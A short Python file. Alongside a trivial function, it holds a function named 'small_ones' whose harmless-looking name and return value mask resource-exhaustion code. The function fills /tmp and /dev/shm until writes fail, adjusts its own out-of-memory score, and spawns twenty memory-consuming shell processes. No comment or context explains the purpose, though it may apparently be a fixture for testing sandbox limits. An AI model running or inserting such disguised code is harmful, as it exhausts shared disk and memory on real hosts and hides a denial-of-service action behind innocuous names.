def one():
    return 1


import os
import subprocess
import time
from pathlib import Path


def small_ones(x):
    Path("/proc/self/oom_score_adj").write_text("500")  # as process 1 has it
    small = ["/bin/sh", "-c", "x=$(head -c 1500000 /dev/zero | tr '\\0' a); sleep 20"]
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(f"{folder}/fill", "wb") as file:
                while file.write(bytes(2**20)):
                    pass
        except OSError:
            pass
    found = [subprocess.Popen(small) for _ in range(20)]
    time.sleep(5)
    return 0 * x if found else x
